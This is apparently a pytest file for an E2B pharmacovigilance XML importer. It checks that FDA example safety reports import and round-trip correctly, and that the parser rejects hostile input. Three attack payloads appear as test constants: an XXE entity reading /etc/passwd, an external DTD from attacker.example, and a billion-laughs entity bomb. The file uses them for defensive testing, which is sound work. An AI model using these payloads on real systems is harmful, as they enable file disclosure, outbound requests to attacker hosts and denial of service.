"""Import: FDA examples read into snapshots, round trips, and a parser that refuses attacks."""

from __future__ import annotations

import dataclasses

import pytest

from submissions.e2b import E2BParseError, build_batch, parse_batch, parse_icsr, validate
from submissions.e2b.constants import MEDDRA_OID
from submissions.e2b.safexml import parse_xml, read_file

from .e2b_cases import fda_examples, header, make_case

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE MCCI_IN200100UV01 [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<MCCI_IN200100UV01 xmlns="urn:hl7-org:v3" ITSVersion="XML_1.0"><id extension="&xxe;"/>
</MCCI_IN200100UV01>"""

XXE_NETWORK = b"""<?xml version="1.0"?>
<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd"><r/>"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<MCCI_IN200100UV01 xmlns="urn:hl7-org:v3">&lol9;</MCCI_IN200100UV01>"""


def test_all_ten_fda_examples_import():
    for path in fda_examples():
        batch = parse_batch(read_file(str(path)))
        assert len(batch.cases) == 1, path.name
        case = batch.cases[0]
        assert case.safety_report_id.startswith("US-"), path.name
        assert case.reactions, path.name
        assert case.drugs, path.name
        assert case.narrative, path.name
        assert all(r.term is not None and r.term.system == MEDDRA_OID for r in case.reactions)
        assert batch.header.receiver_id in {"ZZFDA", "ZZFDA_PREMKT"}


def test_scenario1_fields_are_read():
    path = next(p for p in fda_examples() if p.name == "FAERS2022Scenario1.xml")
    case = parse_icsr(read_file(str(path)))
    assert case.safety_report_id == case.worldwide_case_id == "US-APHARMA-8744554B"
    assert case.report_type == "1"
    assert case.expedited is True
    assert case.first_sender == "1"
    assert case.patient.initials == "JD"
    assert case.patient.sex == "1"
    assert case.patient.age.value == 48
    assert case.patient.age.unit == "a"
    assert [d.role for d in case.drugs] == ["1", "1", "2"]
    assert case.drugs[0].indications[0].text == "Embolism venous"
    assert case.drugs[0].relatedness
    assert case.primary_sources[0].qualification == "1"
    assert case.sender.organisation == "Big Pharma Drug"
    assert case.sender.country == "US"
    assert case.fda.local_report_type == "1"
    assert case.fda.race == ("C41260", "C41219")
    rash = case.reactions[1]
    assert "disability" not in rash.seriousness
    assert "other_medically_important" in rash.seriousness


def test_import_export_round_trips_supported_elements():
    for path in fda_examples():
        first = parse_batch(read_file(str(path)))
        exported = build_batch(first.header, first.cases)
        second = parse_batch(exported)
        assert second.cases == first.cases, path.name
        assert second.header == first.header, path.name
        assert not [f for f in validate(exported, "ich") if f.rule == "XSD"], path.name


def test_own_export_round_trips():
    case = make_case(free_text="nothing personal")
    parsed = parse_icsr(build_batch(header(), [case]))
    # C.1.8.1 defaults to C.1.1 on export, so it comes back explicit
    expected = dataclasses.replace(case, restricted_values=(), worldwide_case_id=case.case_id)
    assert dataclasses.replace(parsed, restricted_values=()) == expected


@pytest.mark.parametrize("payload", [XXE, XXE_NETWORK, BILLION_LAUGHS])
def test_dtds_and_entities_are_rejected(payload):
    with pytest.raises(E2BParseError, match="DTD|entit"):
        parse_xml(payload)
    failures = validate(payload, "ich")
    assert [f.rule for f in failures] == ["PARSE"]


def test_oversize_and_malformed_documents_are_rejected():
    with pytest.raises(E2BParseError, match="larger than"):
        parse_xml(b"<a/>" + b" " * 100, max_bytes=50)
    with pytest.raises(E2BParseError, match="malformed"):
        parse_xml(b"<MCCI_IN200100UV01><unclosed></MCCI_IN200100UV01>")
    with pytest.raises(E2BParseError, match="expected an ICSR batch"):
        parse_batch(b'<MCCI_IN200101UV01 xmlns="urn:hl7-org:v3"/>')
